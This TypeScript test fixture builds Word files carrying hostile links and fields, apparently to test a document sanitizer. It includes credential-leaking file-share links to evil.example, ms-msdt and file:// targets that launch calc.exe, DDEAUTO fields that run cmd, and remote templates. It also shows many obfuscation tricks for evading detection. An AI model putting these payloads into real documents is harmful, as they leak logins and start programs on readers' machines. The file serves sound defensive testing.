import {
  contentTypes,
  documentOf,
  fieldOf,
  makeDocx,
  relationships,
  withBody,
  withField,
  withPart,
  withRelation,
} from '../make-docx.ts';

/** Each sends a login to a server, starts a program, or opens a file of the reader's disk. */
export const harmfulTargets = {
  'a file share': '\\\\evil.example\\share',
  'an escaped file share': '\\\\\\\\evil.example\\\\share',
  'a file share with slashes': '//evil.example/share',
  'a file share in percent signs': '%5C%5Cevil.example%5Cshare',
  'a file share in percent signs, one of them broken': '%5C%5Cevil.example%5Cshare%zz',
  'a file on a server': 'file://evil.example/share',
  'a file of the disk': 'file:///C:/Windows/System32/calc.exe',
  'a path on the disk': 'C:\\Windows\\System32\\calc.exe',
  'a path out of the folder': '../../Windows/System32/calc.exe',
  'a support tool': 'ms-msdt:/id PCWDiagnostic',
  'a search': 'search-ms:query=a&amp;crumb=location:%5C%5Cevil.example',
  'a script': 'JavaScript:alert(1)',
  'a script with a line break': 'java\nscript:alert(1)',
  'a file transfer': 'ftp://evil.example/a',
  'a call program': 'skype:ada?call',
};

const simpleField = (code: string) => `<w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}"/>`;
const piece = (text: string, element = 'instrText') => `<w:r><w:${element}>${text}</w:${element}></w:r>`;
const vml = (element: string) =>
  withBody(`<w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o">${element}</w:pict>`);
const inParts = (make: (name: string, target: string) => [string, () => Buffer]) =>
  Object.fromEntries(Object.entries(harmfulTargets).map(([name, target]) => make(name, target)));
const share = harmfulTargets['a file share'];
const program = harmfulTargets['a support tool'];
const web = 'https://www.example.com';
const linkToShare = documentOf(fieldOf(`HYPERLINK "${share}"`));
const base = (link: string) =>
  withPart('docProps/app.xml', `<Properties><HyperlinkBase>${link}</HyperlinkBase></Properties>`);
const mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';

const links: Record<string, () => Buffer> = {
  ...inParts((name, target) => [`a field that links to ${name}`, withField(` HYPERLINK "${target}" `)]),
  ...inParts((name, target) => [
    `a relationship that links to ${name}`,
    withRelation({ type: 'hyperlink', target, mode: 'External' }),
  ]),
  ...inParts((name, target) => [
    `a drawing that links to ${name}`,
    vml(`<v:shape href="${target}"><v:textbox/></v:shape>`),
  ]),
  'a link to a program that does not say it is external': withRelation({
    type: 'hyperlink',
    target: harmfulTargets['a file of the disk'],
  }),
  'such a link in pieces': withField(' HYPER', 'LINK "ms-', 'msdt:/id" '),
  'such a link in one element': withBody(simpleField(` HYPERLINK "${program}"`)),
  'such a link without quotes': withField(`HYPERLINK ${share}`),
  'such a link without a space': withField(`HYPERLINK"${program}"`),
  'such a link in typographic quotes': withField(`HYPERLINK “${program}”`),
  'such a link in small letters': withField('hyperlink "FILE:///C:/a.exe"'),
  'such a link in other letters': withField('HYPERLINK "ms&#45;msdt&#x3a;/id"'),
  'such a link after a switch': withField(`HYPERLINK \\n "${program}"`),
  'such a link after a tooltip': withField(`HYPERLINK \\o "tip" "${program}"`),
  'such a link behind an escaped quote': withField(`HYPERLINK "a" \\o "a\\" \\o "${program}"`),
  'such a link with a backslash that vanishes': withField('HYPERLINK "m\\s-msdt:/id"'),
  'such a link to a bookmark elsewhere': withField(`HYPERLINK "${share}\\a.docx" \\l "name"`),
  'a link whose address a field makes': withField('HYPERLINK "', fieldOf('QUOTE 92 92'), 'evil.example"'),
  'a link whose address an element makes': withField('HYPERLINK "', simpleField('QUOTE 92'), '"'),
  'such a link in a footer': withPart('word/footer1.xml', linkToShare),
  'such a link in footnotes': withPart('word/footnotes.xml', linkToShare),
  'such a link in a comment': withPart('word/comments.xml', linkToShare),
  'such a link in the glossary': withPart('word/glossary/document.xml', linkToShare),
  'such a link in the glossary through a relationship': withPart(
    'word/glossary/_rels/document.xml.rels',
    relationships({ type: 'hyperlink', target: harmfulTargets['a file transfer'], mode: 'External' }),
  ),
  'such a link in a drawing of another namespace': vml(`<v:shape o:href="${share}"/>`),
  'such a link in an alternative': withBody(
    `<mc:AlternateContent ${mc}><mc:Fallback><w:pict><v:rect xmlns:v="urn:v" href="${share}"/></w:pict></mc:Fallback></mc:AlternateContent>`,
  ),
  'a base of all links behind an element': base(`<a/>${share}`),
  'a base of all links': base(share),
};

const fetched: Record<string, () => Buffer> = {
  'a field with a picture from the web after a switch': withField(`INCLUDEPICTURE \\d "${web}/a.png"`),
  'a field with a picture from the web without a space': withField(`INCLUDEPICTURE\\d"${web}/a.png"`),
  'a field with a picture from the web right after a switch': withField(`INCLUDEPICTURE \\d${web}/a.png`),
  'a field with a picture from a file share after a switch': withField(
    `INCLUDEPICTURE \\* MERGEFORMAT \\d "${share}"`,
  ),
  'a field with a picture whose address an element makes': withField(
    'INCLUDEPICTURE ',
    simpleField('QUOTE 1'),
  ),
  'a field that starts a program, without a space': withField('DDEAUTO"c:\\\\cmd.exe" "/k calc"'),
  'a field that starts a program, its name in quotes': withField('"DDEAUTO" cmd'),
  'a field that starts a program, its name half in quotes': withField('"DDE"AUTO cmd'),
  'a field that links to another file, with a switch': withField('LINK\\a Word.Document.8 "C:\\\\a.doc"'),
  'a field with text from another file, without a space': withField('INCLUDETEXT"C:\\\\a.doc"'),
  'a field that starts a program, its name made by an element': withField(
    simpleField('QUOTE 68 68 69'),
    ' cmd',
  ),
  'a field that starts a program, its name made in quotes': withField(
    '"',
    fieldOf('QUOTE 68 68 69'),
    '" cmd',
  ),
  'a field that starts a program, with a line break': withField('DDE', '<w:r><w:br/></w:r>', 'cmd'),
  'a field that starts a program, in a text run': withField('D', piece('DE cmd', 't')),
  'a field that starts a program, with a deleted letter': withField(
    'D',
    piece('X', 'delInstrText'),
    'DE cmd',
  ),
  'a field that starts a program, with letters to ignore': withField(
    'D',
    '<x:r xmlns:x="urn:x"><w:instrText>X</w:instrText></x:r>',
    'DE cmd',
  ),
  'a field that starts a program, in one of two alternatives': withField(
    'D',
    `<mc:AlternateContent ${mc}><mc:Choice Requires="x">${piece('X')}</mc:Choice><mc:Fallback>${piece('DE cmd')}</mc:Fallback></mc:AlternateContent>`,
  ),
  'a field that starts a program, without its end': withBody(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${piece('DDEAUTO cmd')}`,
  ),
  'a field that sends commands to the printer': withField('PRINT 27"&amp;l1O"'),
  'a drawing with a picture of another place': vml('<v:imagedata r:id="rId1" o:href="pictures/a.png"/>'),
  'a drawing filled from the web': vml(`<v:fill o:href="${web}/a.png"/>`),
  'a drawing with a linked picture': withBody('<a:blip xmlns:a="urn:a" r:link="rId1"/>'),
  'a template that says it is a link': () =>
    makeDocx({
      '[Content_Types].xml': contentTypes(
        '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>',
      ),
      'word/_rels/settings.xml.rels': relationships({ type: 'hyperlink', target: web, mode: 'External' }),
    }),
  'a template by the name that Windows has for a file share': withPart(
    'word/_rels/settings.xml.rels',
    relationships({
      type: 'attachedTemplate',
      target: '\\??\\UNC\\evil.example\\a.dotm',
      mode: 'External',
    }),
  ),
  'an add-in from a file share': withPart(
    'word/webextensions/webextension1.xml',
    `<we:webextension xmlns:we="urn:we"><we:reference id="a" store="${share}" storeType="FileSystem"/></we:webextension>`,
  ),
  'an object of the strict format': withBody('<w:objectLink r:id="rId9"/>'),
};

/** Word files that link to more than the web, a mail, a call or a bookmark, or fetch something when they are opened. */
export const linkingDocx: Record<string, () => Buffer> = { ...links, ...fetched };

/** Attributes of which readers may choose one or the other. */
export const ambiguousDocx: Record<string, () => Buffer> = {
  'two links of one drawing': vml(`<v:shape href="${program}" o:href="${web}"/>`),
  'two targets of one relationship': withRelation({
    type: 'hyperlink',
    target: `${web}" xmlns:x="urn:x" x:Target="${web}/b`,
    mode: 'External',
  }),
};
